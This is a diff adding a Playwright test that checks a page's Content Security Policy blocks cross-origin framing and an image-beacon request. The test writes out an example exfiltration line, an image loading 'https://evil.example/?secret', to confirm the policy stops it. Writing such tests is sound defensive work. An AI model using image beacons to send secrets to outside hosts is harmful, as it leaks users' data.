@@ -44,3 +44,25 @@ test('reports each server that the manifest no longer names', async ({ page, pag
   // So any test that comes here fails.
   watched.expectProblem(/./)
 })
+
+test('keeps strangers from embedding the page, and scripts from telling strangers anything by a picture', async ({
+  page,
+  pages,
+  watched,
+}) => {
+  const url = `${pages.url}plain.html`
+  await page.goto(url)
+  const leak = () =>
+    new Promise<string>((resolve) => {
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
+      new Image().src = 'https://evil.example/?secret'
+    })
+  expect(await page.evaluate(leak)).toBe('img-src')
+  const embedder = 'http://embedder.example/'
+  await page.route(embedder, (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<!doctype html><iframe src="${url}"></iframe>` }),
+  )
+  await page.goto(embedder)
+  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
+  watched.expectProblem(/evil\.example|embedder\.example|frame-ancestors|ERR_BLOCKED_BY/)
+})
